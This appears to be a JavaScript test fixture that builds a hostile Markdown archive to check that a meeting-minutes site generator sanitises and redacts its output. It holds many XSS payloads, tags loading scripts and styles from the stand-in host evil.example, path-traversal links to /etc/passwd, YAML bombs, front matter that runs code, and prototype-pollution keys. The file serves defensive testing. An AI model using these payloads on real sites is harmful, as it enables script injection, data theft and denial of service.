/** Set by every script of the archive that gets to run. */
export const MARK = '__pwned';

const RUN = `window.${MARK}=1;alert(1)`;

/**
 * What no output may hold, in whatever way it is coded or spaced: addresses, numbers and comments
 * of the documents below.
 */
export const PRIVATE = [
  'erika.example@private.example',
  'max@private.example',
  '171 2345678',
  '170 9876543',
  'comment of the author',
  'unclosed comment',
];

/** The same, where the site is asked to remove it. */
export const REDACTED = [
  'Jane Roe',
  'Zoë Möller',
  'jroe-iaas',
  'Ticket-4711',
  'Leave of absence',
  'until spring',
  'The whole file',
];

const SCRIPTS = `# Scripts 2023-01-01

<script>${RUN}</script>
text <script>${RUN}</script> text
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>${RUN}</scr</script>ipt>

<img src=x onerror="${RUN}">
<img src="x\` onerror=${RUN}"//>
![x](x.png "onerror=\\"${RUN}")
![" onerror="${RUN}](../pictures/good.png)
![x](../pictures/good.png =1x1" onerror="${RUN}")
a <b onmouseover="${RUN}" style="position:fixed;inset:0">b</b>
<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}">x</a></svg>
<svg/onload=${RUN}//
<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">
<details open ontoggle="${RUN}"><summary>x</summary>y</details>
<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>
<object data="data:text/html,<script>${RUN}</script>"></object><embed src="x">
<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>
<style>*{display:none!important;background:url(//evil.example/x.png)}</style>
<link rel=stylesheet href=//evil.example/x.css>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<noscript><p title="</noscript><img src=x onerror=${RUN}>">
<textarea><img src=x onerror=${RUN}></textarea><template><img src=x onerror=${RUN}></template>
<video src=x onerror=${RUN}><source src=x></video><audio src="//evil.example/x.mp3" autoplay>
<input autofocus onfocus="${RUN}"><select onfocus=${RUN}><keygen><marquee onstart=${RUN}>
<body onload="${RUN}"><html onclick="${RUN}"><frameset onload="${RUN}">
<?php <img src=x onerror=${RUN}> ?> <![CDATA[<img src=x onerror=${RUN}>]]>
</div></main></body></html><h1 id="__docusaurus">taken over</h1>
</script><script>${RUN}</script>
<div data-minutes-html="body" data-minutes-page id="x">x</div>
<script type="application/json" data-minutes-page>{"kind":"meeting"}</script>

## <img src=x onerror="${RUN}"> "><svg onload="${RUN}"> </script><script>${RUN}</script>

| <img src=x onerror=${RUN}> | "><script>${RUN}</script> |
|--|--|
| <svg onload="${RUN}"> | \`<script>${RUN}</script>\` |

\`\`\`"><img src=x onerror=${RUN}>
</code></pre><script>${RUN}</script>
\`\`\`

\`\`\`mermaid
graph TD; A["<img src=x onerror=${RUN}>"]-->B; click A "javascript:${RUN}"
\`\`\`

:::danger "><script>${RUN}</script>
{{constructor.constructor('${RUN}')()}} \${${RUN}} import x from 'y'
:::

<!-- comment of the author <script>${RUN}</script> -->
`;

const LINKS = `# Links 2023-01-02

[x](javascript:${RUN}) [x](JaVaScRiPt:${RUN}) [x](&#106;avascript:${RUN})
[x](java&Tab;script:${RUN}) [x](java&NewLine;script:${RUN}) [x](\u0001javascript:${RUN})
[x](<  javascript:${RUN}>) [x][y] <javascript:${RUN}> [x](vbscript:msgbox)
[x](data:text/html,<script>${RUN}</script>) [x](data:image/svg+xml;base64,PHN2Zz4=)
[x](//evil.example/x) [x](\\\\\\\\evil.example/x) [x](https:evil.example) [x](http:\\\\\\\\evil.example)
[x](/\\\\evil.example) [x](/etc/passwd) [x](?x=<script>) [x](#"onclick="${RUN})
[x](https://example.org/"onmouseover="${RUN}") [x](https://exa mple.org/<script>)
[x](https://example.org/?a=1&b=2&lt=3 "title\\" onclick=\\"${RUN}")
<a href="javascript:${RUN}">x</a> <a href="jav&#x09;ascript:${RUN}">x</a>
<a href=" javascript&colon;${RUN}">x</a> <a href='JAVASCRIPT:${RUN}'>x</a>
<a href="https://example.org" target=_top ping="https://evil.example" onclick="${RUN}">x</a>
[outer [inner](https://inner.example) text](https://outer.example)
[![x](../pictures/good.png)](javascript:${RUN}) [![x](https://evil.example/x.png)](https://a.example)
[a https://inside.example b](https://around.example) <a href="https://a.example"><a href="https://b.example">c</a></a>
[x](../names/a%20b%23%25.md) [x](../names/nothing.md#"><script>) [x](%00) [x](%ff) [x](%) [x](http://[)
![x](javascript:${RUN}) ![x](data:image/svg+xml,<svg onload=${RUN}>) ![x](//evil.example/y.png)
https://example.org/<script>${RUN}</script> www.example.org/"onclick="${RUN}

[y]: javascript:${RUN}

## Same

## Same

## Same-1

## Same 1

> ## Same

### __proto__

### constructor

### a" onmouseover="${RUN}

<h2 id="same">Same</h2> <a name="same"></a> <a id="same-1"></a> <span id="same">x</span>
`;

const TOKENS = `# Tokens 2023-01-03

<minutes-image n="0"></minutes-image> \`<minutes-image n="0">\` <minutes-link n="0">
<minutes-link n="0">x</minutes-link> [x](javascript:0) \`<minutes-link n="0">x</minutes-link>\`

    <minutes-link n="0">x</minutes-link> <minutes-image n="0"></minutes-image>

## <minutes-link n="0">x</minutes-link> </minutes-link> <minutes-image n="1"></minutes-image>

&lt;minutes-link n="0"> ![<minutes-image n="0">](javascript:0 "<minutes-link n=\\"0\\">")

[real](https://example.org/token-$&-$1-$\`) ![real $& $1 $\`](../pictures/good.png)
![<minutes-image n="0"></minutes-image>](../pictures/good.png)
![</minutes-link><minutes-link n="0">](nowhere-<minutes-link_n="0">.png)
[<minutes-image n="0"></minutes-image>](https://example.org/<minutes-link_n="1">)
[![in a link](../pictures/good.png)](https://example.org/in-a-link)
`;

const PATHS = `# Paths 2023-01-01

![a](../../secret.png) ![b](../../../etc/passwd) ![c](..%2F..%2Fsecret.png)
![d](%2e%2e/%2e%2e/secret.png) ![e](/etc/passwd) ![f](file:///etc/passwd) ![g](..\\\\..\\\\secret.png)
![h](../links-out/secret.png) ![i](../links-out/etc/passwd) ![j](../../../../../../../../etc/hostname)
![k](....//....//secret.png) ![l](../pictures/../../secret.png) ![m](%252e%252e/%252e%252e/secret.png)
![n](https://pad.example/uploads/..%2F..%2Fsecret.png) ![o](https://pad.example/uploads/../../secret.png)
[a](../../secret.pdf) [b](../../secret.md) [c](..%2f..%2fsecret.pdf) [d](../links-out/secret.pdf)
[e](../../../etc/passwd) [f](/etc/passwd) [g](file:///etc/passwd) [h](../links-out/20230101.md)
[i](https://github.com/example/minutes/blob/main/../../secret.pdf)
[j](https://github.com/example/minutes/blob/main/%2e%2e/%2e%2e/secret.pdf) [k](../../outside/20230101.md)
`;

const PICTURES = `# Pictures 2023-01-01

${'text.png markup.png page.svg huge.png wide.png cut.png good.png empty.jpg script.svg entity.svg bomb.svg page.html nothing.png'
  .split(' ')
  .map((name) => `![${name}](${name})`)
  .join('\n')}

[cut](cut.pdf) [page](page.html) [script](script.svg) [folder](../pictures) ![folder](../pictures)
![small](good.png =0x0) ![large](good.png =99999999999x99999999999) ![odd](good.png =-1x1e9)
`;

const PRIVACY = `# Private 2023-01-04

erika.example@private.example, <max@private.example>, [mail](mailto:max@private.example)
Tel. 0171 2345678 and [call](tel:+491709876543), +49 170 9876543

- erika.example&#64;private.example \`max@private.example\`
- [Phone: 0171 2345678](https://example.org/?mail=max@private.example)

## max@private.example Tel.: 0171 2345678

<!-- comment of the author: max@private.example -->

\`\`\`
erika.example@private.example
\`\`\`

[by phone][phone] ![0171-2345678](tel:+49-171-2345678 "+49 171 2345678") <tel:+491709876543>
[0170 9876543](tel:+491709876543) [x](TEL:%2B49%20170%209876543) [x](sms:01709876543) <a
href="te&#108;:&#43;49 170/98.765-43" title="+49 170 9876543">x</a> [x](https://wa.me/491709876543)
[x](https://example.org/?phone=%2B49+170+9876543) https://example.org/?tel=0170%20987%2D6543
Phone:+49 170 9876543 tel:+49(0)170/9876543 \`callto:01709876543\` **Tel:** 0170 **98** 76543
+49&nbsp;170&#160;9876543 \`+49%20170%209876543\` +49 170 9876543, +49 170
9876543

max%40private.example max%2540private%2Eexample max&amp;#64;private.example m**ax**@private.example
'max@private.example' max​@private.exam­ple [x](https://example.org/?mail=max%2540private.example)
![x](https://example.org/x.png?mail=max@private.example) [x](max@private.example) <max@private.example>

:::info max@private.example or +49 170 9876543
text
:::

\`\`\`+491709876543
{"phone": "0170 9876543", "mail": "max&#64;private.example", 'url': 'tel:%2B491709876543'}
\`\`\`

[phone]: tel:+491709876543 "+49 170 9876543"

<!-- unclosed comment
`;

const REQUESTS = `# Requests 2023-01-06

Jane Roe, JANE&#32;ROE, **Jane** Roe, \`Jane%20Roe\`, jane&amp;nbsp;roe, https://example.org/jane%20roe
[x](https://example.org/J%41ne%2520Roe) [x](https://example.org/?q=jane+roe) [x][request]
![x](../pictures/Jane%20Roe.png) ![x](<../pictures/Jane Roe.png>) ![Jane Roe](../pictures/good.png)
<img src="../pictures/J&#97;ne%20Roe.png"> <a href="../pictures/jane%2520roe.png" title="Jane Roe">x</a>
[Jane](https://example.org/) Roe, Zo%C3%AB%20M%C3%B6ller, Zo%EB M%F6ller, Zo&euml; Möller
![x](../pictures/Zoe%CC%88%20Mo%CC%88ller.png)

## Jane&#32;Roe

@jroe-iaas, @JRoe-IaaS: **jroe**-iaas \`jroe%2Diaas\` jroe&#45;iaas [Jane](https://github.com/jroe-iaas)
https://jroe-iaas.example.org/ [x](https://example.org/?u=JROE%252DIAAS) Ticket-4711, ticket&#45;4711
![removed](../pictures/removed.png) [a file](../pictures/removed.png) [leave](#leave-of-absence)
[file](removed.md) [leave](20230106.md#until-spring)

- AI @jroe-iaas: write Ticket-4711

### Leave of absence

She is on leave.

#### Until spring

- Decision: The leave lasts until spring.

## After the leave

[request]: https://example.org/Jane%20Roe "Jane Roe"
`;

const HUGE = `# Huge 2023-01-01\n\nmax@private.example <!-- comment of the author --> ${'a'.repeat(5_000_000)}`;

const bomb = (levels) =>
  levels
    .split('')
    .map(
      (key, i, all) =>
        `${key}: &${key} [${Array(9)
          .fill(i ? `*${all[i - 1]}` : 'x')
          .join()}]`,
    )
    .join('\n');

/** So many meetings on one topic, over two years, that its page is continued on pages per year. */
const busyTeam = () =>
  Object.fromEntries(
    Array.from({length: 24}, (_, i) => {
      const [year, month] = [2021 + Math.floor(i / 12), String((i % 12) + 1).padStart(2, '0')];
      const text = `# ${year}-${month}-15\n\n## Hostile plan ${i} <b onclick="${RUN}">x</b>\n\n- step ${i}\n`;
      return [`busy/${year}${month}15.md`, text];
    }),
  );

/** Text (or bytes) of each document by its path in the archive. */
export function hostileDocuments() {
  const long = 'l'.repeat(240);
  const plain = (title) => `# ${title}\n\nhostile text: Topic, a paragraph of its own: ${title}.\n`;
  const copied = plain('One text, long enough to be no mere note, that is the page of two folders');
  return {
    ...busyTeam(),
    'scripts/20230101.md': SCRIPTS,
    'scripts/20230102.md': LINKS,
    'scripts/20230103.md': TOKENS,
    'scripts/20230104.md': PRIVACY,
    'scripts/20230106.md': REQUESTS,
    // The same as slides, where other rules hold.
    'scripts/20230105.md': `---\ntype: slide\ntitle: "</title><script>${RUN}</script>"\n---\n\n${SCRIPTS}\n---\n${LINKS}`,
    'paths/20230101.md': PATHS,
    'pictures/20230101.md': PICTURES,
    'big/20230101.md': HUGE,
    'big/20230102.md': Array.from({length: 1500}, (_, i) => `${'  '.repeat(i)}- x`).join('\n'),
    'big/20230103.md': `${'- '.repeat(10_000)}x`,
    'big/20230104.md': `# Slow 2023-01-04\n\n${'a'.repeat(60)}\n\n${'a '.repeat(9000)}\n\n${'a'.repeat(19_000)}\n`,
    'big/20230105.md': `${'['.repeat(50_000)}\n${'*a_ '.repeat(20_000)}`,
    'big/20230106.md': `# Many 2023-01-06\n\n${Array.from({length: 2000}, (_, i) => `## Same ${i % 7}`).join('\n\n')}\n`,
    'broken/20230101.md': '',
    'broken/20230102.md': ' \n\t\n',
    'broken/20230103.md': Buffer.from([0x23, 0x20, 0xff, 0xfe, 0x00, 0x0a, 0xc3, 0x28, 0x0a]),
    'broken/20230104.md': Buffer.from('\ufeff# UTF-16\n\ntext', 'utf16le'),
    'broken/20230105.md': `---js\n{title: (globalThis.${MARK} = 1)}\n---\n# Front matter that runs\n`,
    'broken/20230106.md': `---\n${bomb('abcdefghij')}\ntitle: *j\n---\n# Front matter that grows\n`,
    'broken/20230107.md': `---\ntitle: !!js/function 'function(){${RUN}}'\n__proto__: {polluted: yes}\n---\n# A\n`,
    'broken/20230108.md': `---\na: ${'['.repeat(30_000)}\n---\n# Deep\n`,
    'broken/20230109.md': '---\nnever closed\n# Heading\n',
    'broken/99999999.md': plain('A day that does not exist'),
    'broken/20230231.md': plain('Nor does this'),
    'names/with space.md': plain('Space'),
    'names/a b#%.md': plain('Hash and per cent'),
    'names/über – Größe 日本語.md': plain('Letters of other alphabets'),
    'names/u\u0308ber – Gro\u0308ße 日本語.md': plain('The same name, written otherwise'),
    'names/it\'s "quoted" <b>&amp;.md': plain('Quotes'),
    'names/semi;colon?query=1&x[0]={y}|z.md': plain('Signs'),
    'names/(group)*+:param.md': plain('Signs of routers'),
    'names/%2e%2e%2f%2e%2e%2fescape.md': plain('An escape in the name'),
    'names/back\\slash.md': plain('Backslash'),
    'names/$& $1.md': plain('Signs of replacements'),
    'names/index.md': plain('Index'),
    'names/page.html.md': plain('A page of its own'),
    'names/404.md': plain('Not found'),
    'names/🎉.md': plain('Nothing but an emoji'),
    'names/line\nbreak.md': plain('Line break'),
    [`names/${long}.md`]: plain('A long name'),
    [`names/${long}2.md`]: plain('Another long name'),
    [`names/${'ü'.repeat(120)}.md`]: plain('A long name of two bytes each'),
    'names/Notes.md': plain('Notes'),
    'names/notes.md': plain('Other notes'),
    'names/notes.markdown': plain('More notes'),
    'names/latest.md': plain('Latest'),
    'events/2023-01-01-event/Readme.md': plain('Read me'),
    'events/2023-01-01-event/README.md': plain('Read me too'),
    'events/2023-01-01-event/part #1.md': plain('Part'),
    'events/2023-01-01-event.md': plain('A file called like the folder'),
    'events/2023-02-01-one/Readme.md': copied,
    'events/2023-03-01-two/Readme.md': copied,
    'events/odd folder #2/20230101.md': plain('In an odd folder'),
    'events/Odd Folder #2/20230102.md': plain('In one that is almost the same'),
    'events/latest/20230103.md': plain('In a folder called latest'),
    'events/a/b/c/d/e/20230104.md': plain('Deep down'),
    'topics/topic.md': plain('A team called topics'),
    'Topics/20230101.md': plain('Another'),
    'teams/20230101.md': plain('A team called teams'),
    'years/2023.md': plain('A team called years'),
    'search/20230101.md': plain('A team called search'),
    'odd names & "signs"/20230101.md': plain('A team with signs'),
    'ümläut/20230101.md': plain('A team with umlauts'),
    'assets/20230101.md': plain('A team called assets'),
    '__proto__/20230101.md': plain('A team called like a prototype'),
    'constructor/20230101.md': `${plain('A team called like a constructor')}\n## Participants\n\n- constructor\n- __proto__\n`,
  };
}
